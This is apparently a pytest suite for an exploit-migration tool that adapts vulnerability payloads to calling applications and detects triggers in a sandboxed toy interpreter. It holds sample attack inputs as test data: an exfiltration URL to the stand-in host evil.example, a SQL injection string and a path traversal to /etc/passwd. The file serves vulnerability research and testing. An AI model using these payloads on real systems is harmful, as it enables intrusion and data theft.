"""Repair rules, trigger detection, and the payload migration loop."""

import time

import pytest

from vexploit.errors import CorpusError
from vexploit.instrument import run_instrumented
from vexploit.interp import Budgets
from vexploit.migrate import (GENERIC_TEMPLATES, AffixString, FileMaterialize,
                              MarkerSubstitute, MigrationCandidate,
                              MigrationConfig, OracleSpec, RuleContext,
                              RuleInapplicable, Template, TriggerCondition,
                              TypeConvert, apply_rule, build_chains,
                              dedupe_candidates, detect_trigger, migrate)
from vexploit.payload import ExploitPayload
from vexploit.values import FileRef

from helpers import program_from, qn


@pytest.fixture
def ctx(tmp_path):
    return RuleContext(work_dir=str(tmp_path), attacker_host="evil.example")


def test_marker_substitute_rewrites_attacker_host(ctx):
    out = apply_rule(MarkerSubstitute(), "http://{{ATTACKER}}/x", ctx)
    assert out == "http://evil.example/x"


def test_marker_substitute_without_marker_is_inapplicable(ctx):
    with pytest.raises(RuleInapplicable):
        apply_rule(MarkerSubstitute(), "plain", ctx)


def test_type_convert_between_strings_and_numbers(ctx):
    assert apply_rule(TypeConvert("int"), " 42 ", ctx) == 42
    assert apply_rule(TypeConvert("float"), "2.5", ctx) == 2.5
    assert apply_rule(TypeConvert("str"), 7, ctx) == "7"
    assert apply_rule(TypeConvert("list"), "ab", ctx) == ["a", "b"]
    assert apply_rule(TypeConvert("record"), "x", ctx) == {"value": "x"}


def test_type_convert_rejects_impossible_conversions(ctx):
    cases = [
        (TypeConvert("int"), "nope"),
        (TypeConvert("float"), "x"),
        (TypeConvert("bool"), "1"),
        (TypeConvert("str"), [1]),
        (TypeConvert("int"), True),
    ]
    for rule, value in cases:
        with pytest.raises(RuleInapplicable):
            apply_rule(rule, value, ctx)


def test_affix_wraps_string_payloads(ctx):
    assert apply_rule(AffixString("<", ">"), "p", ctx) == "<p>"
    assert apply_rule(AffixString(suffix="'--"), "1", ctx) == "1'--"
    with pytest.raises(RuleInapplicable):
        apply_rule(AffixString("x"), 3, ctx)


def test_template_fills_single_hole(ctx):
    out = apply_rule(Template('{"v": "{{PAYLOAD}}"}'), "boom", ctx)
    assert out == '{"v": "boom"}'
    assert apply_rule(Template("[{{PAYLOAD}}]"), 7, ctx) == "[7]"


def test_template_rejects_bad_holes_and_values(ctx):
    with pytest.raises(CorpusError):
        apply_rule(Template("no hole"), "x", ctx)
    with pytest.raises(CorpusError):
        apply_rule(Template("{{PAYLOAD}}{{PAYLOAD}}"), "x", ctx)
    with pytest.raises(RuleInapplicable):
        apply_rule(Template("[{{PAYLOAD}}]"), ["list"], ctx)
    with pytest.raises(RuleInapplicable):
        apply_rule(Template("[{{PAYLOAD}}]"), True, ctx)


def test_file_materialize_is_content_addressed(ctx, tmp_path):
    ref1 = apply_rule(FileMaterialize(), "attack-bytes", ctx)
    ref2 = apply_rule(FileMaterialize(), "attack-bytes", ctx)
    other = apply_rule(FileMaterialize(), "other-bytes", ctx)
    assert isinstance(ref1, FileRef)
    assert ref1 == ref2
    assert ref1.path != other.path
    assert ref1.path.startswith("payload_") and ref1.path.endswith(".dat")
    assert (tmp_path / ref1.path).read_text() == "attack-bytes"
    with pytest.raises(RuleInapplicable):
        apply_rule(FileMaterialize(), 5, ctx)


def migration_config(tmp_path, **kw):
    return MigrationConfig(work_dir=str(tmp_path), attacker_host="evil.example", **kw)


def test_build_chains_orders_singles_then_pairs(tmp_path):
    cfg = migration_config(tmp_path)
    chains = build_chains(None, "x", cfg)
    singles = [c for c in chains if len(c) == 1]
    pairs = [c for c in chains if len(c) == 2]
    # marker + generic templates + materialize, then every ordered pair
    assert len(singles) == 2 + len(GENERIC_TEMPLATES)
    assert len(pairs) == len(singles) * (len(singles) - 1)
    assert chains[:len(singles)] == singles
    assert isinstance(singles[0][0], MarkerSubstitute)
    assert isinstance(singles[-1][0], FileMaterialize)


def test_build_chains_adds_conversion_toward_annotation(tmp_path):
    cfg = migration_config(tmp_path)
    assert (TypeConvert("int"),) in build_chains("int", "9", cfg)
    matching = build_chains("str", "9", cfg)
    assert not any(isinstance(c[0], TypeConvert) for c in matching if len(c) == 1)


def test_build_chains_puts_corpus_templates_before_generic(tmp_path):
    special = Template("<xml>{{PAYLOAD}}</xml>")
    cfg = migration_config(tmp_path, templates=[special])
    singles = [c[0] for c in build_chains(None, "x", cfg) if len(c) == 1]
    assert singles.index(special) < singles.index(GENERIC_TEMPLATES[0])


def make_candidate(fitness, args, entry="app::go", fn="vuln::check"):
    return MigrationCandidate(qn(entry), args, qn(fn), [("n", "int")], fitness)


def test_dedupe_prefers_fitness_and_drops_twins():
    a = make_candidate(2.0, ["x"])
    b = make_candidate(4.0, ["y"])
    dup = make_candidate(1.0, ["x"])
    assert dedupe_candidates([a, b, dup]) == [b, a]


def test_dedupe_treats_equal_file_content_as_twins(tmp_path):
    a = make_candidate(2.0, [FileRef(path="f.dat", root=str(tmp_path / "a"))])
    b = make_candidate(1.0, [FileRef(path="f.dat", root=str(tmp_path / "b"))])
    assert dedupe_candidates([a, b]) == [a]


def test_dedupe_caps_candidate_count():
    cands = [make_candidate(float(i), [str(i)]) for i in range(40)]
    out = dedupe_candidates(cands, max_candidates=5)
    assert [c.fitness_total for c in out] == [39.0, 38.0, 37.0, 36.0, 35.0]


def run_simple(lib_body, app_body='pub fn go() { return vuln::f(); }',
               args=None, budgets=None, sandbox_root=None):
    program = program_from({"app": app_body}, libraries={"vuln": lib_body})
    return run_instrumented(program, qn("app::go"), args or [], qn("vuln::f"),
                            budgets=budgets, sandbox_root=sandbox_root)


def test_detect_uncaught_exception():
    run = run_simple('pub fn f() { throw "boom"; }')
    hit = detect_trigger(run, TriggerCondition("dos_uncaught_exception"), "evil.example")
    assert hit is not None and hit.kind == "dos_uncaught_exception"
    assert hit.detail["outcome"] == "uncaught_exception"
    calm = run_simple("pub fn f() { return 1; }")
    assert detect_trigger(calm, TriggerCondition("dos_uncaught_exception"),
                          "evil.example") is None


def test_detect_infinite_loop():
    run = run_simple("pub fn f() { while true { let x = 1; } }",
                     budgets=Budgets(max_steps=2_000))
    hit = detect_trigger(run, TriggerCondition("dos_infinite_loop"), "evil.example")
    assert hit is not None
    assert hit.detail["steps"] >= 2_000


def test_detect_stack_overflow():
    run = run_simple("pub fn f() { return vuln::f(); }",
                     budgets=Budgets(max_call_depth=32))
    hit = detect_trigger(run, TriggerCondition("dos_stack_overflow"), "evil.example")
    assert hit is not None
    assert hit.detail["max_depth"] == 32


def test_detect_attacker_host_in_network_sink():
    lib = 'pub fn f(u: str) { return @net_send(u, "d"); }'
    app = "pub fn go(u: str) { return vuln::f(u); }"
    run = run_simple(lib, app_body=app, args=["http://evil.example/leak?d=secret"])
    for kind in ("rce", "xxe"):
        hit = detect_trigger(run, TriggerCondition(kind), "evil.example")
        assert hit is not None and hit.kind == kind
        assert hit.detail["url"].startswith("http://evil.example/")
    # traffic to anyone else is not evidence
    benign = run_simple(lib, app_body=app, args=["http://update.example/ping"])
    assert detect_trigger(benign, TriggerCondition("rce"), "evil.example") is None


def test_detect_sql_pattern():
    lib = """
        pub fn f(q: str) {
            return @sql_exec(@concat("SELECT * FROM t WHERE n = '", @concat(q, "'")));
        }
    """
    run = run_simple(lib, app_body="pub fn go(q: str) { return vuln::f(q); }",
                     args=["x' OR '1'='1"])
    cond = TriggerCondition("sqli", sql_pattern="OR '1'='1'")
    hit = detect_trigger(run, cond, "evil.example")
    assert hit is not None
    assert "OR '1'='1'" in hit.detail["query"]
    tame = run_simple(lib, app_body="pub fn go(q: str) { return vuln::f(q); }",
                      args=["42"])
    assert detect_trigger(tame, cond, "evil.example") is None


def test_detect_path_traversal(tmp_path):
    run = run_simple("pub fn f(p: str) { return @open(p); }",
                     app_body="pub fn go(p: str) { return vuln::f(p); }",
                     args=["../../etc/passwd"], sandbox_root=str(tmp_path))
    hit = detect_trigger(run, TriggerCondition("path_traversal"), "evil.example")
    assert hit is not None
    assert hit.detail["path"] == "../../etc/passwd"


def test_detect_wrong_behavior_oracles():
    lib = 'pub fn f(n: int) { if n == 666 { return "pwned"; } return "ok"; }'
    app = "pub fn go(n: int) { return vuln::f(n); }"
    pwned = run_simple(lib, app_body=app, args=[666])
    equals = TriggerCondition("wrong_behavior",
                              oracle=OracleSpec("return_equals", "pwned"))
    differs = TriggerCondition("wrong_behavior",
                               oracle=OracleSpec("return_differs", "ok"))
    assert detect_trigger(pwned, equals, "evil.example") is not None
    assert detect_trigger(pwned, differs, "evil.example") is not None
    normal = run_simple(lib, app_body=app, args=[1])
    assert detect_trigger(normal, equals, "evil.example") is None
    assert detect_trigger(normal, differs, "evil.example") is None


def test_return_oracle_needs_the_target_to_return():
    # the entry never reaches the vulnerable function, so there is no
    # return value to compare and no evidence either way
    run = run_simple('pub fn f() { return "x"; }',
                     app_body='pub fn go() { return "done"; }')
    cond = TriggerCondition("wrong_behavior",
                            oracle=OracleSpec("return_differs", "x"))
    assert detect_trigger(run, cond, "evil.example") is None


def test_detect_no_exception_oracle():
    cond = TriggerCondition("wrong_behavior", oracle=OracleSpec("no_exception"))
    calm = run_simple("pub fn f() { return 1; }")
    assert detect_trigger(calm, cond, "evil.example") is not None
    angry = run_simple('pub fn f() { throw "nope"; }')
    assert detect_trigger(angry, cond, "evil.example") is None


def test_trigger_condition_validation():
    with pytest.raises(CorpusError):
        TriggerCondition("weird_kind")
    with pytest.raises(CorpusError):
        TriggerCondition("wrong_behavior")
    with pytest.raises(CorpusError):
        TriggerCondition("sqli")
    with pytest.raises(CorpusError):
        TriggerCondition("sqli", sql_pattern="(unclosed")
    with pytest.raises(CorpusError):
        OracleSpec("sometimes")
    with pytest.raises(CorpusError):
        OracleSpec("return_equals")


REPAIR_APP = {"app": "pub fn go(n: int) { return vuln::check(n); }"}
REPAIR_LIBS = {"vuln": """
    pub fn check(n: int) {
        if n == 666 { return "pwned"; }
        return "ok";
    }
"""}
PWNED = TriggerCondition("wrong_behavior", oracle=OracleSpec("return_equals", "pwned"))


def repair_program():
    return program_from(REPAIR_APP, libraries=REPAIR_LIBS)


def test_migrate_repairs_payload_type(tmp_path):
    # the exploit carried the magic number as text; one conversion rule
    # turns it back into the int the guard compares against
    out = migrate(repair_program(), [make_candidate(4.0, [1])],
                  ExploitPayload(["666"]), PWNED, qn("vuln::check"),
                  migration_config(tmp_path))
    assert out.success is not None
    assert out.success.position == 0
    assert [r.describe() for r in out.success.rule_chain] == ["type_convert(int)"]
    assert out.success.substituted_value == 666
    assert out.success.evidence.kind == "wrong_behavior"


def test_migrate_accepts_already_triggering_test(tmp_path):
    out = migrate(repair_program(), [make_candidate(4.0, [666])],
                  ExploitPayload(["666"]), PWNED, qn("vuln::check"),
                  migration_config(tmp_path))
    assert out.success is not None
    assert out.success.position is None
    assert out.success.rule_chain == []
    assert out.success.substituted_value is None
    assert out.executions == 1


def test_migrate_with_rules_disabled_only_replays(tmp_path):
    out = migrate(repair_program(), [make_candidate(4.0, [1])],
                  ExploitPayload(["666"]), PWNED, qn("vuln::check"),
                  migration_config(tmp_path, rules_enabled=False))
    assert out.success is None
    assert out.executions == 1
    assert out.candidates_tried == 1


def test_migrate_records_best_near_miss(tmp_path):
    never = TriggerCondition("wrong_behavior",
                             oracle=OracleSpec("return_equals", "never-this"))
    out = migrate(repair_program(), [make_candidate(4.0, [1])],
                  ExploitPayload(["666"]), never, qn("vuln::check"),
                  migration_config(tmp_path))
    assert out.success is None
    # the bare substitution delivered the payload string verbatim
    assert out.near_miss.similarity == 1.0
    assert out.near_miss.position == 0
    assert out.near_miss.rule_chain == []


def test_migrate_honors_execution_cap(tmp_path):
    never = TriggerCondition("wrong_behavior",
                             oracle=OracleSpec("return_equals", "never-this"))
    out = migrate(repair_program(), [make_candidate(4.0, [1])],
                  ExploitPayload(["666"]), never, qn("vuln::check"),
                  migration_config(tmp_path, max_executions_per_test=2))
    assert out.success is None
    assert out.executions == 2


def test_migrate_manual_conditions_never_claim_success(tmp_path):
    program = program_from(
        {"app": "pub fn go(n: int) { return vuln::check(n); }"},
        libraries={"vuln": 'pub fn check(n: int) { throw "boom"; }'})
    cond = TriggerCondition("dos_uncaught_exception", manual=True)
    out = migrate(program, [make_candidate(4.0, [1])], ExploitPayload(["x"]),
                  cond, qn("vuln::check"), migration_config(tmp_path))
    assert out.success is None
    assert out.executions >= 1


def test_migrate_stops_at_deadline(tmp_path):
    cfg = migration_config(tmp_path, deadline=time.monotonic() - 1.0)
    out = migrate(repair_program(), [make_candidate(4.0, [1])],
                  ExploitPayload(["666"]), PWNED, qn("vuln::check"), cfg)
    assert out.success is None
    assert out.candidates_tried == 0


def test_migrate_without_payload_does_nothing(tmp_path):
    out = migrate(repair_program(), [make_candidate(4.0, [1])],
                  ExploitPayload([]), PWNED, qn("vuln::check"),
                  migration_config(tmp_path))
    assert out.success is None
    assert out.executions == 0
